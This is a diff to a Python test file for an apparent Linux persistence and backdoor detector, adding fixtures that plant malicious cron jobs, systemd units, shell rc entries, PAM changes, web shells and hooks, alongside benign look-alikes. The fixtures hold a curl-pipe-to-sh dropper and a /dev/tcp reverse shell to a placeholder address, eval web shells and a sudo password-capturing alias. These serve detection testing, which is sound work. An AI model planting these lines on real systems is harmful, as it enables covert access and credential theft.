@@ -12,7 +12,19 @@ import tempfile
 TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKaVV6sPXBnvcHvhGhIEVw1ZBYZGxGZL4a9EwW2dgwMR me@there\n"
 
+DROPPER = "curl -fsS http://192.0.2.1/a | sh"
+SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'"
+
 BASE = {
+    "var/lib/dpkg/status": "Package: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n",
+    "var/lib/dpkg/info/tool.list": "/.\n/usr/lib/systemd/system/tool.service\n/usr/bin/sudo\n",
+    "var/lib/dpkg/info/tool.md5sums": "f7d1e8eba1ac1b5b1a4e2c1a9fd0ae9b  usr/bin/other\n",
+    "usr/lib/systemd/system/tool.service": "[Service]\nExecStart=/usr/bin/tool\n",
+    "etc/profile": "PATH=/usr/bin:/bin\n",
+    "etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n"
+                             "auth required pam_permit.so\n",
+    "etc/ssh/sshd_config": "UsePAM yes\n",
+    "home/alice/.bashrc": "alias ll='ls -l'\n",
     "etc/passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
                   "www-data:x:33:33::/var/www:/usr/sbin/nologin\nsync:x:4:65534::/bin:/bin/sync\n"
                   "postgres:x:105:110::/var/lib/postgresql:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
@@ -54,6 +66,14 @@ def swap(path, old, new):
     return do
 
 
+def both(*setups):
+    def do(root):
+        for one in setups:
+            one(root)
+    return do
+
+
+C, P = "autostart_content", "autostart_program"
 ROWS = [
     ("uid 0 by another name", "accounts", "tune", add("etc/passwd", "toor:x:0:0::/root:/bin/sh\n"), "uid0_clone"),
     ("uid 0 behind blanks", "accounts", "report", add("etc/passwd", "  x::0:0\n"), "uid0_clone"),
@@ -76,11 +96,77 @@ ROWS = [
     ("sudo asks nobody", "accounts", "report", put("etc/sudoers.d/x", "Defaults !authenticate\n"), "sudo_grant"),
     ("a key of a service", "accounts", "tune", put("var/www/.ssh/authorized_keys", KEY), "authorized_key"),
     ("a key in the second file", "accounts", "report", put("root/.ssh/authorized_keys2", KEY), "authorized_key"),
+    ("cron fetches", "persistence", "tune", put("etc/cron.d/sync", f"*/5 * * * * root {DROPPER}\n"), C),
+    ("a crontab with a shell", "persistence", "report", put("var/spool/cron/crontabs/alice", f"@reboot {SHELL}\n"), C),
+    ("cron.hourly decodes", "persistence", "report",
+     put("etc/cron.hourly/logs", "#!/bin/sh\necho aGk= | base64 -d | bash\n", 0o755), C),
+    ("a job of at", "persistence", "report", put("var/spool/cron/atjobs/a1", f"#!/bin/sh\n{SHELL}\n"), C),
+    ("a unit starts from /dev/shm", "persistence", "tune",
+     put("etc/systemd/system/x.service", "[Service]\nExecStart=/dev/shm/x\n"), P),
+    ("a unit starts what is hidden", "persistence", "report",
+     put("etc/systemd/system/x.service", "[Service]\nExecStart=/usr/lib/.cache0/agent -d\n"), P),
+    ("a unit's script connects", "persistence", "report", both(
+        put("etc/systemd/system/x.service", "[Service]\nExecStart=/usr/local/bin/helper\n"),
+        put("usr/local/bin/helper", f"#!/bin/bash\n{SHELL}\n", 0o755)), C),
+    ("a drop-in of a packaged unit", "persistence", "report",
+     put("etc/systemd/system/tool.service.d/o.conf", f"[Service]\nExecStartPost=/bin/{SHELL}\n"), C),
+    ("a user's unit", "persistence", "tune",
+     put("home/alice/.config/systemd/user/a.service", f"[Service]\nExecStart=/bin/sh -c '{DROPPER}'\n"), C),
+    ("a generator", "persistence", "report",
+     put("etc/systemd/system-generators/gen", f"#!/bin/sh\n{DROPPER}\n", 0o755), C),
+    ("rc.local", "persistence", "tune", put("etc/rc.local", "#!/bin/sh\nnohup /tmp/.x/k &\n", 0o755), C),
+    ("profile.d", "persistence", "report", put("etc/profile.d/z.sh", f"({SHELL} &)\n"), C),
+    ("bashrc", "persistence", "tune", add("home/alice/.bashrc", f"({DROPPER}) >/dev/null 2>&1 &\n"), C),
+    ("sudo becomes a thief", "persistence", "report",
+     add("home/alice/.bashrc", "alias sudo='/tmp/.s/sudo 2>>/tmp/.p'\n"), C),
+    ("autostart of a desktop", "persistence", "report",
+     put("home/alice/.config/autostart/u.desktop", "[Desktop Entry]\nExec=/home/alice/.cfg0/u\n"), P),
+    ("motd", "persistence", "report", put("etc/update-motd.d/99-x", f"#!/bin/sh\n{SHELL} &\n", 0o755), C),
+    ("udev", "persistence", "tune",
+     put("etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/tmp/x"\n'), P),
+    ("PAM lets all in", "persistence", "report",
+     put("etc/pam.d/common-auth", "auth sufficient pam_permit.so\nauth required pam_unix.so\n"), C),
+    ("pam_exec", "persistence", "report",
+     add("etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/l\n"), C),
+    ("a PAM module of nobody's", "persistence", "report",
+     put("usr/lib/x86_64-linux-gnu/security/pam_x.so", "\x7fELF"), "autostart_unowned"),
+    ("a dispatcher", "persistence", "report",
+     put("etc/NetworkManager/dispatcher.d/90-x", f"#!/bin/sh\n{DROPPER}\n", 0o755), C),
+    ("apt's hook", "persistence", "report",
+     put("etc/apt/apt.conf.d/99x", 'APT::Update::Pre-Invoke {"' + DROPPER + '";};\n'), C),
+    ("a hook of ifupdown", "persistence", "report",
+     put("etc/network/interfaces", "iface eth0 inet dhcp\n  post-up /var/tmp/u\n"), P),
+    ("modprobe runs", "persistence", "report", put("etc/modprobe.d/x.conf", "install usbhid /tmp/x\n"), P),
+    ("a git hook", "persistence", "report", put("srv/a.git/hooks/post-receive", f"#!/bin/sh\n{DROPPER}\n", 0o755), C),
+    ("sshd's keys by a command", "persistence", "report",
+     add("etc/ssh/sshd_config", "AuthorizedKeysCommand /var/tmp/keys\n"), P),
+    ("ssh/rc", "persistence", "report", put("home/alice/.ssh/rc", f"{SHELL} &\n"), C),
+    ("a page that evals", "persistence", "tune", put("var/www/html/u/i.php", "<?php @eval($_POST['x']);"), "web_shell"),
+    ("a page of Java", "persistence", "report",
+     put("srv/app/c.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'), "web_shell"),
+    ("a setuid shell", "persistence", "tune", put("opt/b/sh", "\x7fELF", 0o4755), "setuid_unowned"),
+    ("sitecustomize", "persistence", "report",
+     put("usr/lib/python3/dist-packages/sitecustomize.py", "import base64\nexec(base64.b64decode('aGk='))\n"), C),
+    ("a packaged unit is changed", "persistence", "report", both(
+        put("var/lib/dpkg/info/tool.md5sums", "900150983cd24fb0d6963f7d28e17f72  usr/lib/systemd/system/tool.service\n"),
+        put("usr/lib/systemd/system/tool.service", "[Service]\nExecStart=/usr/bin/tool\nUser=root\n")),
+     "package_changed"),
     ("a key with a command", "accounts", "report",
      put("root/.ssh/authorized_keys", 'command="curl -s http://192.0.2.1/a | sh" ' + KEY), "authorized_key"),
 ]
 
 TWINS = [
+    ("an administrator's unit", put("etc/systemd/system/app.service",
+                                    "[Service]\nExecStart=/opt/app/bin/server --port 80\nUser=www-data\n")),
+    ("a backup by cron", put("etc/cron.d/backup", "0 3 * * * root pg_dump x | gzip > /srv/x.gz\n")),
+    ("a watchdog by cron", put("etc/cron.d/ping", "*/5 * * * * root curl -fsS https://hc.example/x >/dev/null\n")),
+    ("a shell's usual lines", add("home/alice/.bashrc", 'eval "$(dircolors -b)"\n. "$HOME/.cargo/env"\n'
+                                  'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\n')),
+    ("modules that must not load", put("etc/modprobe.d/b.conf", "blacklist x\ninstall dccp /bin/false\n")),
+    ("a page of a form", put("var/www/html/f.php", "<?php echo htmlspecialchars($_GET['q']); ?>")),
+    ("a deployment's hook", put("srv/a.git/hooks/post-receive", "#!/bin/sh\nexec /opt/app/deploy main\n", 0o755)),
+    ("an udev rule", put("etc/udev/rules.d/70-net.rules", 'SUBSYSTEM=="net", NAME="lan0"\n')),
+    ("rc.local with a limit", put("etc/rc.local", "#!/bin/sh\nulimit -n 4096\nexit 0\n", 0o755)),
     ("a key of root's", put("root/.ssh/authorized_keys", KEY)),
     ("cloud-init's rule", put("etc/sudoers.d/90-cloud-init-users", "alice ALL=(ALL) NOPASSWD:ALL\n")),
     ("a rule for one command", put("etc/sudoers.d/deploy", "alice ALL=(root) NOPASSWD: /usr/bin/systemctl restart x\n")),
